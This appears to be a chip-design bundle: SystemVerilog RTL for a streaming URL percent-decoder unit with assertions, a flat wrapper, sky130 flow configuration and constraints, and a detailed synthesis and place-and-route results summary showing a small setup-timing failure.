File: src/rtl/upd_pkg.sv
// Shared types, character constants and hex helpers for the URL percent decoder.
package upd_pkg;

  localparam int unsigned RUN_MAX = 3;

  localparam logic [7:0] CH_PLUS    = 8'h2B;
  localparam logic [7:0] CH_PERCENT = 8'h25;
  localparam logic [7:0] CH_SPACE   = 8'h20;
  localparam logic [7:0] DEC_LO     = 8'd48;
  localparam logic [7:0] DEC_HI     = 8'd57;

  typedef enum logic [2:0] {
    PH_IDLE  = 3'b001,
    PH_PCT   = 3'b010,
    PH_DIGIT = 3'b100
  } phase_t;

  // Decoded bytes of one input transaction, oldest in entry 0.
  typedef struct packed {
    logic [RUN_MAX-1:0][7:0] bytes;
    logic [1:0]              cnt;
    logic                    eoi;
  } group_t;

  function automatic logic is_hex(input logic [7:0] c);
    is_hex = (c >= 8'h30 && c <= 8'h39) || (c >= 8'h61 && c <= 8'h66) ||
             (c >= 8'h41 && c <= 8'h46);
  endfunction

  function automatic logic [3:0] hex_val(input logic [7:0] c);
    logic [7:0] d;
    d = 8'h00;
    if (c >= 8'h30 && c <= 8'h39) begin
      d = c - 8'h30;
    end else if (c >= 8'h61 && c <= 8'h66) begin
      d = c - 8'h57;
    end else if (c >= 8'h41 && c <= 8'h46) begin
      d = c - 8'h37;
    end
    hex_val = d[3:0];
  endfunction

endpackage

File: src/rtl/upd_if.sv
// Stream interfaces for the encoded input bytes and the decoded result bytes.
interface upd_in_if;
  logic       valid;
  logic       ready;
  logic [7:0] in_byte;
  logic       end_of_input;

  modport source (output valid, output in_byte, output end_of_input, input ready);
  modport sink (input valid, input in_byte, input end_of_input, output ready);
endinterface

interface upd_out_if;
  logic       valid;
  logic       ready;
  logic [7:0] out_byte;
  logic       last_of_run;
  logic       end_of_output;

  modport source (output valid, output out_byte, output last_of_run,
                  output end_of_output, input ready);
  modport sink (input valid, input out_byte, input last_of_run,
                input end_of_output, output ready);
endinterface

File: src/rtl/url_percent_decoder_unit.sv
// Top level of the URL percent decoder: decode stage followed by the result group.
//
//   channel  | direction | payload                                  | handshake
//   in_ch    | sink      | in_byte[7:0], end_of_input               | valid/ready
//   out_ch   | source    | out_byte[7:0], last_of_run, end_of_output | valid/ready
//
// One input transaction per cycle is taken while each yields at most one result.
// A k-byte group is held until taken, one byte a cycle while out_ch is ready.
// An accepted byte passes the input register, then the result group register.
// Reset is synchronous and active low; it clears valid flags and the escape state.
// Back-pressure on out_ch stalls the decode stage, which then stalls in_ch.
module url_percent_decoder_unit (
  input  logic      clk,
  input  logic      rst_n,
  upd_in_if.sink    in_ch,
  upd_out_if.source out_ch
);

  upd_pkg::group_t grp;
  logic            grp_load;
  logic            grp_free;

  upd_decode u_decode (
    .clk      (clk),
    .rst_n    (rst_n),
    .in_ch    (in_ch),
    .grp_free (grp_free),
    .grp      (grp),
    .grp_load (grp_load)
  );

  upd_emit u_emit (
    .clk      (clk),
    .rst_n    (rst_n),
    .grp_in   (grp),
    .grp_load (grp_load),
    .grp_free (grp_free),
    .out_ch   (out_ch)
  );

endmodule

File: src/rtl/upd_decode.sv
// Input register, escape state and the single-pass decode of one byte into a group.
module upd_decode (
  input  logic            clk,
  input  logic            rst_n,
  upd_in_if.sink          in_ch,
  input  logic            grp_free,
  output upd_pkg::group_t grp,
  output logic            grp_load
);

  logic               a_valid_r;
  logic [7:0]         a_byte_r;
  logic               a_eoi_r;
  upd_pkg::phase_t    phase_r, phase_nxt;
  logic [7:0]         dig_r, dig_nxt;
  logic               a_adv;

  always_comb begin
    logic [1:0] n;
    logic [7:0] v;
    logic       plain;
    n         = 2'd0;
    v         = 8'h00;
    plain     = 1'b0;
    grp.bytes = '0;
    grp.eoi   = a_eoi_r;
    phase_nxt = upd_pkg::PH_IDLE;
    dig_nxt   = dig_r;

    case (phase_r)
      upd_pkg::PH_PCT: begin
        if (upd_pkg::is_hex(a_byte_r)) begin
          dig_nxt   = a_byte_r;
          phase_nxt = upd_pkg::PH_DIGIT;
        end else begin
          grp.bytes[n] = upd_pkg::CH_PERCENT;
          n = n + 2'd1;
          plain = 1'b1;
        end
      end
      upd_pkg::PH_DIGIT: begin
        if (upd_pkg::is_hex(a_byte_r)) begin
          v = {upd_pkg::hex_val(dig_r), upd_pkg::hex_val(a_byte_r)};
          if (v >= upd_pkg::DEC_LO && v <= upd_pkg::DEC_HI) begin
            grp.bytes[0] = upd_pkg::CH_PERCENT;
            grp.bytes[1] = dig_r;
            grp.bytes[2] = a_byte_r;
            n = 2'd3;
          end else begin
            grp.bytes[0] = v;
            n = 2'd1;
          end
        end else begin
          grp.bytes[0] = upd_pkg::CH_PERCENT;
          grp.bytes[1] = dig_r;
          n = 2'd2;
          plain = 1'b1;
        end
      end
      default: begin
        plain = 1'b1;
      end
    endcase

    if (plain) begin
      if (a_byte_r == upd_pkg::CH_PLUS) begin
        grp.bytes[n] = upd_pkg::CH_SPACE;
        n = n + 2'd1;
      end else if (a_byte_r == upd_pkg::CH_PERCENT) begin
        phase_nxt = upd_pkg::PH_PCT;
      end else begin
        grp.bytes[n] = a_byte_r;
        n = n + 2'd1;
      end
    end

    // End of stream flushes a pending escape literally and restarts the state.
    if (a_eoi_r) begin
      if (phase_nxt == upd_pkg::PH_PCT) begin
        grp.bytes[n] = upd_pkg::CH_PERCENT;
        n = n + 2'd1;
      end else if (phase_nxt == upd_pkg::PH_DIGIT) begin
        grp.bytes[n] = upd_pkg::CH_PERCENT;
        n = n + 2'd1;
        grp.bytes[n] = dig_nxt;
        n = n + 2'd1;
      end
      phase_nxt = upd_pkg::PH_IDLE;
      dig_nxt   = 8'h00;
    end
    grp.cnt = n;
  end

  // A transaction that yields nothing retires without touching the output group.
  assign a_adv       = a_valid_r && (grp.cnt == 2'd0 || grp_free);
  assign grp_load    = a_adv && grp.cnt != 2'd0;
  assign in_ch.ready = !a_valid_r || a_adv;

  always_ff @(posedge clk) begin
    if (!rst_n) begin
      a_valid_r <= 1'b0;
      phase_r   <= upd_pkg::PH_IDLE;
      dig_r     <= 8'h00;
    end else begin
      if (in_ch.ready) begin
        a_valid_r <= in_ch.valid;
      end
      if (a_adv) begin
        phase_r <= phase_nxt;
        dig_r   <= dig_nxt;
      end
    end
  end

  always_ff @(posedge clk) begin
    if (in_ch.ready && in_ch.valid) begin
      a_byte_r <= in_ch.in_byte;
      a_eoi_r  <= in_ch.end_of_input;
    end
  end

`ifndef ASSERT_OFF
  a_eoi_yields: assert property (@(posedge clk) disable iff (!rst_n)
    (a_adv && a_eoi_r) |-> grp.cnt != 2'd0)
    else $error("final transaction of a stream produced no result");

  a_eoi_idle: assert property (@(posedge clk) disable iff (!rst_n)
    (a_adv && a_eoi_r) |=> phase_r == upd_pkg::PH_IDLE)
    else $error("escape state not cleared after end of stream");

  a_broken_digit: assert property (@(posedge clk) disable iff (!rst_n)
    (a_adv && phase_r == upd_pkg::PH_DIGIT && !upd_pkg::is_hex(a_byte_r))
      |-> grp.cnt >= 2'd2)
    else $error("broken escape lost its held characters");
`endif

endmodule

File: src/rtl/upd_emit.sv
// Result group register that hands out its decoded bytes one per transaction.
module upd_emit (
  input  logic            clk,
  input  logic            rst_n,
  input  upd_pkg::group_t grp_in,
  input  logic            grp_load,
  output logic            grp_free,
  upd_out_if.source       out_ch
);

  upd_pkg::group_t grp_r, grp_nxt;
  logic            take;

  assign take     = out_ch.valid && out_ch.ready;
  assign grp_free = grp_r.cnt == 2'd0 || (take && grp_r.cnt == 2'd1);

  always_comb begin
    grp_nxt = grp_r;
    if (grp_load) begin
      grp_nxt = grp_in;
    end else if (take) begin
      grp_nxt.bytes = {8'h00, grp_r.bytes[2], grp_r.bytes[1]};
      grp_nxt.cnt   = grp_r.cnt - 2'd1;
    end
  end

  // Only the count needs a reset; the bytes are ignored while the count is zero.
  always_ff @(posedge clk) begin
    if (!rst_n) begin
      grp_r.cnt <= 2'd0;
    end else begin
      grp_r.cnt <= grp_nxt.cnt;
    end
    grp_r.bytes <= grp_nxt.bytes;
    grp_r.eoi   <= grp_nxt.eoi;
  end

  assign out_ch.valid         = grp_r.cnt != 2'd0;
  assign out_ch.out_byte      = grp_r.bytes[0];
  assign out_ch.last_of_run   = grp_r.cnt == 2'd1;
  assign out_ch.end_of_output = grp_r.cnt == 2'd1 && grp_r.eoi;

`ifndef ASSERT_OFF
  a_load_free: assert property (@(posedge clk) disable iff (!rst_n)
    grp_load |-> grp_free)
    else $error("group loaded over bytes still waiting");

  a_load_cnt: assert property (@(posedge clk) disable iff (!rst_n)
    grp_load |=> grp_r.cnt == $past(grp_in.cnt))
    else $error("group count not taken on load");

  a_drain: assert property (@(posedge clk) disable iff (!rst_n)
    (take && grp_r.cnt > 2'd1) |=> grp_r.cnt == $past(grp_r.cnt) - 2'd1)
    else $error("group did not drain by one byte");
`endif

endmodule

File: src/flat_wrapper.sv
// flat-port wrapper written by rule: the top's interface ports become plain ports
module url_percent_decoder_unit_flat 
  (clk, rst_n, in_ch_valid, in_ch_in_byte, in_ch_end_of_input, in_ch_ready, out_ch_valid, out_ch_out_byte, out_ch_last_of_run, out_ch_end_of_output, out_ch_ready);
  upd_in_if in_ch_i ();
  upd_out_if out_ch_i ();
  input  logic clk;
  input  logic rst_n;
  input wire logic [$bits(in_ch_i.valid)-1:0] in_ch_valid;
  input wire logic [$bits(in_ch_i.in_byte)-1:0] in_ch_in_byte;
  input wire logic [$bits(in_ch_i.end_of_input)-1:0] in_ch_end_of_input;
  output wire logic [$bits(in_ch_i.ready)-1:0] in_ch_ready;
  output wire logic [$bits(out_ch_i.valid)-1:0] out_ch_valid;
  output wire logic [$bits(out_ch_i.out_byte)-1:0] out_ch_out_byte;
  output wire logic [$bits(out_ch_i.last_of_run)-1:0] out_ch_last_of_run;
  output wire logic [$bits(out_ch_i.end_of_output)-1:0] out_ch_end_of_output;
  input wire logic [$bits(out_ch_i.ready)-1:0] out_ch_ready;
  assign in_ch_i.valid = in_ch_valid;
  assign in_ch_i.in_byte = in_ch_in_byte;
  assign in_ch_i.end_of_input = in_ch_end_of_input;
  assign in_ch_ready = in_ch_i.ready;
  assign out_ch_valid = out_ch_i.valid;
  assign out_ch_out_byte = out_ch_i.out_byte;
  assign out_ch_last_of_run = out_ch_i.last_of_run;
  assign out_ch_end_of_output = out_ch_i.end_of_output;
  assign out_ch_i.ready = out_ch_ready;
  url_percent_decoder_unit u_core (.clk(clk), .rst_n(rst_n), .in_ch(in_ch_i), .out_ch(out_ch_i));
endmodule
File: config.mk
export PLATFORM = sky130hd
export DESIGN_NAME = url_percent_decoder_unit_flat
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/upd_pkg.sv /design/src/rtl/upd_if.sv /design/src/rtl/url_percent_decoder_unit.sv /design/src/rtl/upd_decode.sv /design/src/rtl/upd_emit.sv /design/src/flat_wrapper.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export ABC_AREA = 1
export BUFFER_PORTS_ARGS = -buffer_cell sky130_fd_sc_hd__buf_2
export CORE_UTILIZATION = 28
export DETAILED_ROUTE_END_ITERATION = 7
export GPL_TIMING_DRIVEN = 0
export PLACE_DENSITY = 0.43
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
export TNS_END_PERCENT = 50
File: constraint.sdc
create_clock -name clk -period 3.8 [get_ports clk]
set_clock_uncertainty 0.15 [all_clocks]
set_input_delay 0.38 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.38 -clock clk [all_outputs]
set_load 0.01 [all_outputs]
==> summary.txt <==
status: complete, but fails checks
failing checks: negative setup slack
Final TNS setup: -0.0143 ns
CP endpoint kind: output port
initial antenna violation count: 0
Initial Util: 28.6%
area of the multi-input gates: 2060 sq um
CTS max path bufs: 2
Cell Area, Synth: 3440 sq um
CP max FO: 4
worst-margin pin slew: 1.14 ns
Worst-Skew Late Latency: 0.29 ns
Iteration-0 DRC Markers: 280
crit path kind: flip-flop to output port
CP startpoint: u_core.u_decode.a_byte_r[0]$_DFFE_PP_
filler instances: 1,213
clock sinks: 48
Async S/R FF share, synth: 0%
CTS Buf Count: 5
storage element area: 1310 sq um
reg2reg end: u_core.u_decode.dig_r[0]$_SDFFE_PN0P_
Syn Area/Cell: 7.61 sq um
Detailed Routing Iterations Pass 1: 4
r2r startpoint: u_core.u_decode.a_byte_r[0]$_DFFE_PP_
Yosys cell types: 39
CTS root buf: clkbuf_16
ys flop type: edfxtp_1
DIE HEIGHT: 113 um
area grow syn2layout: 33.7%
sequential cell area fraction in the yosys report: 37.8%
post-layout util: 38.3%
GPL Wtd Cong: 0.875
mux contribution to synthesized area: 0%
htree depth: 2
Design Area, Final: 4600 sq um
CP Data Arrival Time: 3.28 ns
# rows: 40
Hold Path Stages: 1
min Tclk post-route: 3.81 ns
syn_nets: 482
die footprint: 12,700 sq um
worst min-delay path endpoint: u_core.u_decode.a_byte_r[0]$_DFFE_PP_
total track usage: 17.3%
Synth Area in XOR/XNOR: 0%
die width: 113 um
WL final: 10,700 um
Worst R2R Setup Slack: 0.10 ns
FF-to-FF path depth: 25
n_diodes: 0
proportion of layout cells with a drive suffix above 1: 33.7%
Cells after Synth: 452
Routed Antenna Nets: 0
Syn. warnings: 0
relative slew slack: 23.5%
Fmax: 0.262 GHz
Compound-Gate Fraction of Synth Area: 16.2%
via/cell ratio: 4.90
Finish-stage setup viols: 1
cell area after placement: 3750 sq um
DR vias: 3,323
Setup WS post-layout: -0.0143 ns
Hold Violations, Final: 0
core area: 12,000 sq um
adder-cell area share of the yosys netlist: 6.18%
DP HPWL: 7730 um
Hold-fix buffers, CTS: 0
number of global-route vias before repair: 3,226
CP Launch Type: flip-flop
CTS tree: built
Final period util: 100%
final slew viol count: 0
worst min path class: input port to flip-flop
WL/cell: 15.8 um
CP Data Required Time: 3.27 ns
drt drc: 0
Post-synth EDFFs: 34
IO Port Bufs: 24
Seq cells post-synth: 48
P_leak: 0.00193 uW
MaxCap Viol Count: 0
first-pass GRT wire length: 17,000 um
final net count: 560
largest family of logic cells by synthesized area: simple AND/OR/NAND/NOR gates
Synth Area in Simple Gates: 29.5%
unrepaired setup endpoints after global routing: true
largest net degree at the start of global routing: 26
gr ovfl total: 0
Hold Crit Start: in_ch_in_byte[0]
maximum VDD drop: 0.000160 V
Worst-path clk slew: 0.07 ns
PD cells: 557 nW/um^2
I/O pins: 25
cell usage in the layout, fill, tap and decap left out, drive strengths merged, types with 4 or more instances in the layout:
master  count
clkbuf      8
nor2       70
dfxtp      14
ha         17
nand3      27
nand2     105
o21ai      59
inv        60
buf        84
nor3        8
a22oi       4
a21oi      14
o22ai       8
edfxtp     34
worst max path at each step:
stage,end,slack [ns],cells after the start
after CTS,in_ch_ready,-0.02,21
after floorplan,u_core.u_decode.a_byte_r[0]$_DFFE_PP_,0.03,24
after global placement,u_core.u_decode.a_byte_r[5]$_DFFE_PP_,-0.81,24
final,in_ch_ready,-0.01,22
after global routing,in_ch_ready,-0.18,22
after detailed placement,u_core.u_decode.a_byte_r[1]$_DFFE_PP_,-0.77,24
cells in the mapped netlist (all sizes together), types with 4 or more instances:
cell type / instances / share of area, %
nand2: 105 / 13
nor2: 70 / 9.7
inv: 61 / 6.9
o21ai: 59 / 8.8
edfxtp: 34 / 30
nand3: 27 / 4.9
ha: 17 / 6.2
a21oi: 14 / 2.0
dfxtp: 14 / 8.1
buf: 13 / 3.1
nor3: 8 / 1.2
o22ai: 8 / 1.5
a22oi: 4 / 0.87
timing repair:
item	4_1_cts	5_1_grt
resized for setup	38	43
buffers inserted	37	12
pin swaps	20	25
gates cloned	0	0
setup endpoints to repair	73	72
through the flow:
| step | hold WS, ns | setup slack, ns | std cells | total power, uW |
|---|---|---|---|---|
| floorplan | 0.315 | 0.0296 | 452 | 1570 |
| global placement | 0.335 | -0.811 | 623 | 1840 |
| detailed placement | 0.338 | -0.771 | 623 | 1840 |
| CTS | 0.104 | -0.0199 | 668 | 2490 |
| global route | 0.105 | -0.179 | 678 | 2750 |
| finish | 0.109 | -0.0143 | 678 | 2560 |
worst max-delay path, cell delays in order (launching register included):
cell and delay, ns:
edfxtp_1 0.44, ha_2 0.23, o21ai_2 0.14, nand2_2 0.09
nand2_4 0.11, nand2_2 0.06, nand2_2 0.06, nand2_2 0.07
o21ai_2 0.16, nand2_2 0.11, nand2_4 0.10, nand2_8 0.06
ha_4 0.29, nand3_4 0.07, nand2_4 0.13, inv_6 0.06
ha_4 0.16, o21ai_4 0.17, o31ai_4 0.09, inv_2 0.10
nand3_4 0.10, nand3_4 0.09, buf_6 0.11
cells by family (layout without fill, tap and decap cells):
logic type | Yosys count | count (layout)
and+or+nand+nor | 213 | 213
AOI/OAI and AO/OA | 97 | 97
buffers and inverters | 77 | 156
DFF | 48 | 48
adders and majority gates | 17 | 17
metal layers:
| layer | GRT usage (%) | wire length, um | up-vias |
|---|---|---|---|
| li1 | - | - | 1654 |
| met1 | 21.6 | 4830 | 1551 |
| met2 | 28.6 | 5000 | 93 |
| met3 | 3.00 | 485 | 25 |
| met4 | 8.71 | 429 | 0 |
| met5 | 0 | 0 | - |
flip-flops by register name, indices dropped and copies added (netlist names):
name                           cells
u_core.u_decode.a_byte_r           8
u_core.u_emit.out_ch.out_byte      8
u_core.u_decode.dig_r              8
u_core.u_decode.a_valid_r          1
u_core.u_decode.phase_r            3
u_core.u_decode.a_eoi_r            1
u_core.u_emit.grp_r               19
final cells by class:
| type | instances | share of cell area (%) |
|---|---|---|
| multi-input combinational | 327 | 44.8 |
| sequential | 48 | 28.5 |
| timing repair buffer | 71 | 10.8 |
| inverter | 61 | 5.50 |
| tap | 147 | 4.00 |
| buffer | 16 | 2.75 |
| clock buffer | 5 | 2.72 |
| clock inverter | 3 | 0.925 |
where the power goes:
part           total, uW  switching, uW  internal, uW
combinational       1150            679           476
sequential           904           96.5           807
clock                503            194           309
total               2560            970          1590
Power figures use the tool's default switching activity.
